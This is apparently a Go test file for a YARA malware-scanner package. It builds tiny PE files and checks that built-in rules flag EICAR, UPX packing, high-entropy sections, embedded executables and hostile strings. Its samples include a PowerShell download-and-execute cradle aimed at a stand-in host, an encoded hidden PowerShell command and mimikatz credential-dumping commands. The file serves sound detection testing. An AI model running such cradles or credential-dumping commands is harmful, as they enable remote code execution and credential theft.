package yara

import (
	"bytes"
	"context"
	"encoding/binary"
	"slices"
	"testing"
)

type peSection struct {
	name string
	data []byte
}

// tinyPE builds a PE32 with just the headers yara's pe module reads and the
// given sections, each at a 0x200-aligned file offset.
func tinyPE(sections ...peSection) []byte {
	const lfanew, optSize, headers = 0x80, 224, 0x400
	b := make([]byte, headers)
	le := binary.LittleEndian
	copy(b, "MZ")
	copy(b[0x40:], "This program cannot be run in DOS mode.\r\n")
	le.PutUint32(b[0x3c:], lfanew)
	copy(b[lfanew:], "PE\x00\x00")
	coff := lfanew + 4
	le.PutUint16(b[coff:], 0x14c)
	le.PutUint16(b[coff+2:], uint16(len(sections)))
	le.PutUint16(b[coff+16:], optSize)
	le.PutUint16(b[coff+18:], 0x0102)
	opt := coff + 20
	le.PutUint16(b[opt:], 0x10b)
	le.PutUint32(b[opt+16:], 0x1000) // entry point
	le.PutUint32(b[opt+28:], 0x400000)
	le.PutUint32(b[opt+32:], 0x1000)
	le.PutUint32(b[opt+36:], 0x200)
	le.PutUint32(b[opt+56:], uint32(0x1000*(len(sections)+1)))
	le.PutUint32(b[opt+60:], headers)
	le.PutUint16(b[opt+68:], 3)
	le.PutUint32(b[opt+92:], 16)
	table := opt + optSize
	for i, s := range sections {
		raw := (len(s.data) + 0x1ff) &^ 0x1ff
		h := b[table+40*i:]
		copy(h[:8], s.name)
		le.PutUint32(h[8:], uint32(len(s.data)))
		le.PutUint32(h[12:], uint32(0x1000*(i+1)))
		le.PutUint32(h[16:], uint32(raw))
		le.PutUint32(h[20:], uint32(len(b)))
		le.PutUint32(h[36:], 0x60000020)
		b = append(b, s.data...)
		b = append(b, make([]byte, raw-len(s.data))...)
	}
	return b
}

func TestBuiltinRules(t *testing.T) {
	e := engine(t)
	random := randomBytes(8192, 5)
	zeros := make([]byte, 8192)
	for _, tc := range []struct {
		name string
		data []byte
		want []string
	}{
		{"eicar", eicar(), []string{"eicar_test_file"}},
		{"eicar with trailing spaces", append(eicar(), "    \r\n"...), []string{"eicar_test_file"}},
		{"eicar inside a larger file", append(eicar(), bytes.Repeat([]byte{' '}, 200)...), nil},
		{"plain pe", tinyPE(peSection{".text", zeros}), nil},
		{"upx", tinyPE(peSection{"UPX0", zeros[:512]}, peSection{"UPX1", zeros}), []string{"upx_packed_pe"}},
		{"high entropy section", tinyPE(peSection{".text", zeros}, peSection{".data", random}), []string{"pe_high_entropy_section"}},
		{"small high entropy section", tinyPE(peSection{".data", random[:1024]}), nil},
		// Go and MinGW builds carry compressed DWARF: named .zdebug_*, or
		// "/N" when the name is long (found on a Go build's page).
		{"compressed debug sections", tinyPE(peSection{".text", zeros}, peSection{".zdebug", random}, peSection{"/19", random}), nil},
		{"embedded pe", append([]byte("%PDF-1.7 junk "), tinyPE(peSection{".text", zeros})...), []string{"embedded_pe"}},
		{"download cradle", []byte(`powershell -nop -c "IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/a.ps1')"`),
			[]string{"powershell_download_cradle"}},
		{"download only", []byte(`(New-Object Net.WebClient).DownloadFile('http://example.invalid/a', 'a')`), nil},
		{"encoded command", []byte("cmd /c powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"),
			[]string{"powershell_encoded_command"}},
		{"mimikatz", utf16("mimikatz # privilege::debug\nmimikatz # sekurlsa::logonpasswords"), []string{"hacktool_mimikatz_strings"}},
		{"one mimikatz word", []byte("sekurlsa::logonpasswords"), nil},
		{"random", randomBytes(1<<16, 6), nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got, err := e.Scan(context.Background(), Builtin(), writeTemp(t, "sample", tc.data))
			if err != nil {
				t.Fatal(err)
			}
			var names []string
			for _, m := range got {
				names = append(names, m.Rule)
			}
			if !slices.Equal(names, tc.want) {
				t.Fatalf("matched %v, want %v", names, tc.want)
			}
		})
	}
}

func utf16(s string) []byte {
	var b []byte
	for i := 0; i < len(s); i++ {
		b = append(b, s[i], 0)
	}
	return b
}
